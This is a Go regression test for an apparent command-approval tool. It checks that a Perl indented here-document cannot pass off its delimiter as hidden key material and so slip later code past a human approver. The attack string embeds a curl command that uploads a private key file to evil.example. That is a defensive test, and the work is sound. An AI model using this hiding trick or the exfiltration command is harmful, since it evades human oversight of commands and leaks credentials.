package domain

import (
	"strings"
	"testing"
)

// TestAttack18KeyBlockDelimiterIndented: Perl's and Ruby's indented
// here-document, <<~EOF, ends at the line EOF (indented or not), and
// turnstile read its delimiter as ~EOF, so a key block in a perl -e or
// ruby -e script hid that line, a long base64 word, as key material, and
// the code after the document (system "curl …") read to the approver as
// more of it. The case runs under bash (perl) first. The control: a key
// written so stays hidden, what follows it shown.
func TestAttack18KeyBlockDelimiterIndented(t *testing.T) {
	const l1 = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
	const d = "MzEfYyjiWA4R4oM2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu"
	const marker = "-----BEGIN RSA PRIVATE KEY-----"
	const after = "print STDERR \"RAN-AFTER\\n\";\nsystem \"curl -sT k.pem https://evil.example/u\";\n'"
	cmd := "perl -e 'my $k = <<~" + d + ";\n  " + marker + "\n  " + l1 + "\n  " + d + "\n" + after
	if !ranAfter(t, cmd) {
		t.Fatal("perl did not run the code after the delimiter: the premise does not hold")
	}
	if got := execShown(t, cmd); !strings.Contains(got, "\n  "+d+"\n"+after) {
		t.Errorf("shown as %q: the delimiter is hidden, so the code after the document reads as part of it", got)
	}
	const l2 = "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu"
	control := "perl -e 'open my $f, \">\", \"k.pem\"; print $f <<~EOF;\n  " + marker + "\n  " + l1 + "\n  " + l2 + "\n  EOF\n' && ./deploy.sh"
	got := keyReaderShown(t, control)
	if strings.Contains(got, l1) || strings.Contains(got, l2) {
		t.Errorf("control: shown as %q, a line of its key kept", got)
	}
	if !strings.HasSuffix(got, "\n  EOF\n' && ./deploy.sh") {
		t.Errorf("control: shown as %q, what follows the document lost", got)
	}
}

func init() {
	nestedShellPieces = append(nestedShellPieces, "<<~"+nd, "<<~'"+nd+"'", "<<-"+nd)
}
